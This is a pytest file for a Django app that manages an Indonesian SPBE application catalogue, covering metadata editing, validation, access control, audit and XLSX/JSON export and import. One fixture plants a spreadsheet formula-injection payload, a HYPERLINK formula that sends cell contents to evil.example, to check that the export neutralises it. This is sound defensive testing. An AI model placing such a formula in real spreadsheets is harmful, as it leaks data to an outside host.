"""SPBE catalogue metadata: kept through the edit page and the API, audited, exported in the
national template's column order (XLSX and JSON), and bad input refused whole."""

import io
import json

import pytest
from django.core.management import call_command
from django.test import Client
from openpyxl import load_workbook
from rest_framework.test import APIClient

from simpatik.audit.models import AuditRecord
from simpatik.core.cells import restore
from simpatik.core.errors import ValidationError
from simpatik.inventory import services, spbe
from simpatik.inventory.models import TEXT_LIMIT, Application

METADATA = {
    "versi": "2.1",
    "fungsi": "Mengelola data ASN dari pengangkatan sampai pensiun",
    "keluaran": "Daftar urut kepangkatan; SK kenaikan gaji berkala",
    "layanan_spbe": "Layanan manajemen kepegawaian",
    "proses_bisnis": "Pengelolaan kepegawaian",
    "data_dikelola": "Data ASN, riwayat jabatan",
    "jenis": "khusus",
    "platform": "web",
    "lisensi": "sumber_terbuka",
    "bahasa_pemrograman": "PHP",
    "basis_data": "MySQL",
    "hosting": "pdn",
    "unit_pengelola": "Bidang Mutasi dan Pengembangan Karier",
}


def _form_data(app: Application, **changes) -> dict:
    """What the edit page posts for `app` as it is, with `changes` typed over it."""
    from simpatik.inventory.forms import ApplicationForm

    form = ApplicationForm(instance=app)
    data = {}
    for name in form.fields:
        value = form.initial.get(name)
        if isinstance(value, bool):
            if value:
                data[name] = "on"
            continue
        data[name] = "" if value is None else value
    data["opd"] = app.opd_id
    data.update(changes)
    return data


def _snapshot(app: Application) -> dict:
    app.refresh_from_db()
    return {name: getattr(app, name) for name in ["nama", *METADATA]}


def test_the_edit_page_keeps_the_metadata_and_the_history_names_it(client, inventory, kabid):
    simpeg = inventory["SIMPEG"]
    client.force_login(kabid)
    response = client.post(
        f"/inventaris/{simpeg.pk}/ubah/", _form_data(simpeg, **METADATA, reason="Data SPBE")
    )
    assert response.status_code == 302
    simpeg.refresh_from_db()
    for name, value in METADATA.items():
        assert getattr(simpeg, name) == value, name
    record = AuditRecord.objects.filter(
        action="inventory.application.updated", object_id=str(simpeg.pk)
    ).latest("id")
    assert record.data["changes"]["lisensi"] == ["", "sumber_terbuka"]
    assert record.data["changes"]["hosting"] == ["", "pdn"]
    assert record.reason == "Data SPBE"
    page = client.get(f"/inventaris/{simpeg.pk}/").content.decode()
    assert "Sumber terbuka (open source)" in page and "Pusat Data Nasional" in page
    assert "Jenis lisensi" in page and "Layanan SPBE yang didukung" in page


@pytest.mark.parametrize(
    "changes, field, message",
    [
        ({"lisensi": "bajakan"}, "lisensi", "bukan salah satu dari pilihan"),
        ({"hosting": "luar_negeri"}, "hosting", "bukan salah satu dari pilihan"),
        ({"fungsi": "x" * (TEXT_LIMIT + 1)}, "fungsi", f"paling banyak {TEXT_LIMIT} karakter"),
        ({"layanan_spbe": "y" * 301}, "layanan_spbe", "paling banyak 300 karakter"),
    ],
)
def test_a_bad_value_is_refused_beside_its_field_and_every_typed_value_stays(
    client, inventory, kabid, changes, field, message
):
    simpeg = inventory["SIMPEG"]
    before = _snapshot(simpeg)
    client.force_login(kabid)
    typed = {"keluaran": "Keluaran yang baru diketik", "reason": "alasan diketik"}
    response = client.post(f"/inventaris/{simpeg.pk}/ubah/", _form_data(simpeg, **typed, **changes))
    assert response.status_code == 400
    html = response.content.decode()
    error = html[html.index(f'id="id_{field}_error"') :][:400]
    assert message in error
    assert "Keluaran yang baru diketik</textarea>" in html
    assert 'value="alasan diketik"' in html
    assert _snapshot(simpeg) == before


def test_a_nul_byte_is_refused_and_changes_nothing(client, inventory, kabid):
    simpeg = inventory["SIMPEG"]
    before = _snapshot(simpeg)
    client.force_login(kabid)
    response = client.post(
        f"/inventaris/{simpeg.pk}/ubah/", _form_data(simpeg, fungsi="Data\x00ASN")
    )
    assert response.status_code == 400
    assert "karakter NUL yang tidak diperbolehkan" in response.content.decode()
    api = APIClient()
    api.force_authenticate(kabid)
    refused = api.patch(f"/api/v1/applications/{simpeg.pk}/", {"keluaran": "a\x00b"}, format="json")
    assert refused.status_code == 400 and refused.json()["code"] == "nul_character"
    assert _snapshot(simpeg) == before


def test_the_api_takes_and_gives_the_metadata_and_refuses_unknown_choices(inventory, kasie):
    simpeg = inventory["SIMPEG"]
    api = APIClient()
    api.force_authenticate(kasie)
    before = _snapshot(simpeg)
    for bad in (
        {"lisensi": "bajakan"},
        {"data_dikelola": "z" * (TEXT_LIMIT + 1)},
        # As the web form refuses them: a year or an NIP in other digits, an NIP that is not one.
        {"tahun_dibangun": "٢٠٢٠"},
        {"pj_nip": "٢" * 18},
        {"pj_nip": "abc"},
    ):
        response = api.patch(f"/api/v1/applications/{simpeg.pk}/", bad, format="json")
        assert response.status_code == 400
        assert set(response.json()["errors"]) == set(bad)
    assert _snapshot(simpeg) == before
    response = api.patch(f"/api/v1/applications/{simpeg.pk}/", METADATA, format="json")
    assert response.status_code == 200
    body = api.get(f"/api/v1/applications/{simpeg.pk}/").json()
    assert {name: body[name] for name in METADATA} == METADATA
    schema = api.get("/api/schema/?format=json").json()
    properties = schema["components"]["schemas"]["Application"]["properties"]
    assert {"fungsi", "keluaran", "layanan_spbe", "lisensi", "unit_pengelola"} <= set(properties)


def test_a_service_call_with_a_too_long_text_is_refused_whole(inventory, kasie):
    simpeg = inventory["SIMPEG"]
    before = _snapshot(simpeg)
    with pytest.raises(ValidationError) as caught:
        services.update_application(
            simpeg,
            actor=kasie,
            changes={"versi": "3.0", "keluaran": "k" * (TEXT_LIMIT + 1)},
            via="cli",
        )
    assert caught.value.code == "application_invalid"
    assert set(caught.value.data["fields"]) == {"keluaran"}
    assert _snapshot(simpeg) == before


def test_only_inventory_keepers_edit_the_metadata(inventory, pengembang, opd_user, kabid):
    simpeg = inventory["SIMPEG"]
    before = _snapshot(simpeg)
    for person in (pengembang, opd_user):
        client = Client()
        client.force_login(person)
        page = client.post(f"/inventaris/{simpeg.pk}/ubah/", _form_data(simpeg, **METADATA))
        assert page.status_code == 403
        api = APIClient()
        api.force_authenticate(person)
        patch = api.patch(f"/api/v1/applications/{simpeg.pk}/", METADATA, format="json")
        assert patch.status_code == 403
        assert 'id="spbe-catalogue"' not in client.get("/inventaris/").content.decode()
    assert _snapshot(simpeg) == before
    client = Client()
    client.force_login(kabid)
    assert 'id="spbe-catalogue"' in client.get("/inventaris/").content.decode()


@pytest.fixture
def described(inventory, kasie):
    """SIMPEG with its metadata, integrated with E-Kinerja, and a hostile text in a cell."""
    simpeg = inventory["SIMPEG"]
    services.update_application(
        simpeg,
        actor=kasie,
        changes={
            **METADATA,
            "keluaran": '=HYPERLINK("http://evil.example/?x="&A2,"Klik")',
            "proses_bisnis": "@SUM(A1)",
            "pengembang": "pihak_ketiga",
            "pengembang_nama": "CV Maju",
            "tahun_dibangun": 2017,
        },
    )
    services.add_integration(
        actor=kasie, source=inventory["E-Kinerja"], target=simpeg, data="NIP pegawai"
    )
    services.archive_application(inventory["JDIH"], actor=kasie, reason="diganti")
    return simpeg


def _xlsx_rows(content: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [list(row) for row in sheet.iter_rows()]


def test_the_xlsx_has_the_template_columns_in_order_and_the_values(client, described, kabid):
    client.force_login(kabid)
    response = client.get("/inventaris/katalog-spbe.xlsx")
    assert response.status_code == 200
    cells = _xlsx_rows(response.content)
    header = [cell.value for cell in cells[0]]
    assert header == spbe.headers()
    assert header[:4] == ["No", "Nama Aplikasi", "Nama Singkat/Akronim", "Versi"]
    column = {name: index for index, name in enumerate(spbe.FIELDS)}
    names = [row[column["nama"]].value for row in cells[1:]]
    assert "Jaringan Dokumentasi dan Informasi Hukum" not in names  # archived
    assert len(names) == Application.objects.active().count()
    row = next(r for r in cells[1:] if r[column["nama"]].value == described.nama)
    value = {name: row[index].value for name, index in column.items()}
    assert value["versi"] == "2.1" and value["lisensi"] == "Sumber terbuka (open source)"
    assert value["platform"] == "Web" and value["hosting"] == "Pusat Data Nasional"
    assert value["jenis"] == "Aplikasi khusus" and value["opd"] == described.opd.nama
    assert value["integrasi"] == "E-Kinerja"
    assert value["pengembang"] == "Pihak ketiga (CV Maju)"
    assert value["tahun_dibangun"] == 2017
    # A text that a spreadsheet would run as a formula is a plain text cell.
    for name in ("keluaran", "proses_bisnis"):
        cell = row[column[name]]
        assert cell.data_type == "s" and cell.value.startswith("'")
    assert restore(value["keluaran"]) == '=HYPERLINK("http://evil.example/?x="&A2,"Klik")'
    assert [c.value for c in cells[1]][0] == 1 and [c.value for c in cells[2]][0] == 2


def test_the_json_is_the_same_table(client, described, kabid):
    client.force_login(kabid)
    body = client.get("/inventaris/katalog-spbe.json").json()
    xlsx = _xlsx_rows(client.get("/inventaris/katalog-spbe.xlsx").content)
    assert [c["judul"] for c in body["kolom"]] == [cell.value for cell in xlsx[0]]
    assert [c["field"] for c in body["kolom"]] == spbe.FIELDS
    assert len(body["aplikasi"]) == len(xlsx) - 1
    for entry, row in zip(body["aplikasi"], xlsx[1:], strict=True):
        assert list(entry) == spbe.FIELDS
        cells = [restore(c.value) if isinstance(c.value, str) else c.value for c in row]
        assert [("" if v is None else v) for v in cells] == list(entry.values())
    simpeg = next(e for e in body["aplikasi"] if e["nama"] == described.nama)
    assert simpeg["keluaran"].startswith("=HYPERLINK")  # JSON is not a spreadsheet
    api = APIClient()
    api.force_authenticate(kabid)
    assert api.get("/api/v1/applications/katalog-spbe/").json() == body


def test_the_command_writes_the_same_catalogue(described, tmp_path, client, kabid):
    call_command("inventory", "spbe", str(tmp_path / "katalog.json"))
    call_command("inventory", "spbe", str(tmp_path / "katalog.xlsx"))
    client.force_login(kabid)
    page = client.get("/inventaris/katalog-spbe.json").json()
    assert json.loads((tmp_path / "katalog.json").read_text(encoding="utf-8")) == page
    cells = _xlsx_rows((tmp_path / "katalog.xlsx").read_bytes())
    assert [c.value for c in cells[0]] == spbe.headers()
    assert len(cells) - 1 == len(page["aplikasi"])


def test_the_public_catalogue_shows_the_public_metadata_only(described, kasie):
    services.update_application(described, actor=kasie, changes={"publik": True})
    client = Client()
    html = client.get("/katalog/").content.decode()
    assert METADATA["fungsi"] in html and METADATA["layanan_spbe"] in html
    rows = client.get("/katalog/data.json").json()
    row = next(r for r in rows if r["nama"] == described.nama)
    assert row["versi"] == "2.1" and row["platform"] == "Web" and row["jenis"] == "Aplikasi khusus"
    for private in ("MySQL", "Bidang Mutasi", "sumber_terbuka", "CV Maju"):
        assert private not in html and private not in json.dumps(rows)


def test_a_sheet_with_the_catalogue_columns_imports_them(opds, kasie):
    from simpatik.inventory import importing

    content = (
        "Nama Aplikasi;OPD;Versi;Layanan SPBE;Proses Bisnis;Jenis Lisensi;Lokasi Hosting;"
        "Basis Aplikasi;Data yang Dikelola;Keluaran\n"
        "Portal Desa;Setda;1.2;Layanan informasi desa;Publikasi desa;Open Source;PDN;"
        "Android;Profil desa;Halaman profil\n"
        "Aplikasi Pajak;Setda;1;Layanan pajak;Pemungutan pajak;Bajakan;PDN;Web;Wajib pajak;SPT\n"
    )
    preview = importing.plan("katalog.csv", content.encode())
    assert [row.status for row in preview.rows] == ["new", "error"]
    assert preview.rows[1].errors[0][0] == "Jenis Lisensi"
    importing.apply(preview, actor=kasie, valid_only=True)
    portal = Application.objects.get(nama="Portal Desa")
    assert (portal.versi, portal.lisensi, portal.hosting, portal.platform) == (
        "1.2",
        "sumber_terbuka",
        "pdn",
        "mobile",
    )
    assert portal.layanan_spbe == "Layanan informasi desa" and portal.keluaran == "Halaman profil"
    assert portal.proses_bisnis == "Publikasi desa" and portal.data_dikelola == "Profil desa"
    # The same sheet again changes nothing.
    again = importing.plan("katalog.csv", content.encode())
    assert [row.status for row in again.rows] == ["unchanged", "error"]
